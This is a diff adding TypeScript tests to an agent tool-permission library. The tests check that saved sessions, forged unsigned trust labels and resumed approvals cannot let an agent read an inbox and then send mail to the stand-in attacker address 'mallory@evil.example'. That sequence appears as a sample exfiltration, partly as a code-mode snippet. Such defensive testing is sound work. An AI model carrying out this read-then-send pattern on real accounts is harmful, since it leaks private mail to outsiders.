@@ -1,4 +1,15 @@
-import { type ApprovalRequest, agentTool, Param, Tool, type ToolContext, Toolkit, ToolRegistry } from 'toolwright';
+import {
+  type ApprovalRequest,
+  agentTool,
+  Param,
+  pendingApprovalsOf,
+  Tool,
+  type ToolContext,
+  Toolkit,
+  ToolRegistry,
+  ToolSpec,
+} from 'toolwright';
+import { QuickJsEngine } from 'toolwright/sandbox';
 
 const evil = 'mallory@evil.example';
 
@@ -308,5 +319,109 @@ describe('a remembered origin', () => {
     expect(concern?.source).toBeUndefined();
     expect(concern?.callId).toBeUndefined();
     for (const text of [concern?.origin, concern?.message]) expect(text).not.toMatch(/[\u202e\u001b\n]/);
+  });
+});
+
+describe('a snapshot', () => {
+  const approvalKey = 'k'.repeat(32);
+
+  /** Creates a session whose approver remembers the origin of each call, or denies all. */
+  function createSaved(decision: 'remember' | 'deny') {
+    const office = new Office();
+    const remembers = { kind: 'approve', remember: { for: 'session', origins: true } } as const;
+    const toolkit = new Toolkit({ flow: {}, approvalKey, approver: () => (decision === 'deny' ? 'deny' : remembers) });
+    toolkit.register(office);
+    return { office, toolkit, session: toolkit.session() };
+  }
+
+  const copyOf = <Value>(value: Value): Value => JSON.parse(JSON.stringify(value));
+
+  it('keeps the label of the state of a toolkit', async () => {
+    const { toolkit } = createOffice();
+    const session = toolkit.session({ state: toolkit.state });
+    await session.execute('watch', {});
+    const restored = createOffice();
+    restored.toolkit.restore(copyOf(toolkit.snapshot()));
+    const next = restored.toolkit.session();
+    next.said('Answer in the thread news.');
+    expect((await next.execute('answer', { thread: 'news' })).error?.message).toContain('/sender');
+    expect(restored.office.ran).toEqual([]);
+  });
+
+  it('has no other remembered origins than those that were saved', async () => {
+    const approved = createSaved('remember');
+    await approved.session.execute('inbox', {});
+    await approved.session.execute('send', { to: [evil] });
+    const other = createSaved('deny');
+    await other.session.execute('inbox', {});
+    const edited = { ...copyOf(other.session.snapshot()), approvals: copyOf(approved.session.snapshot()).approvals };
+    const restored = createSaved('deny');
+    restored.session.restore(edited);
+    await restored.session.execute('inbox', {});
+    await restored.session.execute('send', { to: [evil] });
+    expect(restored.office.ran).toEqual([]);
+    expect(restored.session.approvals.list()).toEqual([]);
+  });
+
+  it('keeps the remembered origins that were saved', async () => {
+    const approved = createSaved('remember');
+    await approved.session.execute('inbox', {});
+    await approved.session.execute('send', { to: [evil] });
+    const restored = createSaved('deny');
+    restored.session.restore(copyOf(approved.session.snapshot()));
+    await restored.session.execute('inbox', {});
+    await restored.session.execute('send', { to: [evil] });
+    expect(restored.office.ran).toEqual([[evil]]);
+  });
+
+  it.each([
+    ['without labels', () => undefined],
+    ['with labels that are not signed', ({ content }: { content: string }) => ({ content, isSigned: false })],
+    [
+      'with labels of a model',
+      () => ({ content: '{"label":{"trust":"trusted","readers":"anyone"}}', isSigned: false }),
+    ],
+  ])('%s trusts nothing', async (_, edit) => {
+    const { session } = createSaved('deny');
+    await session.execute('inbox', {});
+    const saved = copyOf(session.snapshot()) as unknown as { readonly flow: { content: string } };
+    const restored = createSaved('deny');
+    restored.session.restore({ ...saved, flow: edit(saved.flow) } as never);
+    await restored.session.execute('send', { to: [evil] });
+    expect(restored.office.ran).toEqual([]);
+  });
+});
+
+describe('a program that waits for an approval', () => {
+  it('stays untrusted where it continues in another session of its ID', async () => {
+    const snapshots = new Map<string, Uint8Array>();
+    const store = {
+      put: async (id: string, bytes: Uint8Array) => void snapshots.set(id, bytes),
+      get: async (id: string) => snapshots.get(id),
+      delete: async (id: string) => void snapshots.delete(id),
+    };
+    const create = () => {
+      const office = new Office();
+      const toolkit = new Toolkit({
+        flow: { onViolation: 'deny' },
+        approvalKey: 'k'.repeat(32),
+        approver: () => 'later',
+      });
+      toolkit.register(office);
+      toolkit.register(
+        ToolSpec.fromFunction(() => 'done', { name: 'wait', needsApproval: true, annotations: { readOnlyHint: true } }),
+      );
+      toolkit.enableCodeMode({ engine: new QuickJsEngine(), snapshots: store });
+      return { office, session: toolkit.session({ id: 'one' }) };
+    };
+    const code = `
+      const mails = await tools.inbox({});
+      await tools.wait({});
+      await tools.tell({ to: 'mallory@evil.example' });`;
+    const paused = await create().session.execute('run_code', { code });
+    const [approval] = pendingApprovalsOf(paused);
+    const continued = create();
+    await continued.session.resumeApproval(approval?.token ?? '', 'approve');
+    expect(continued.office.ran).toEqual([]);
   });
 });
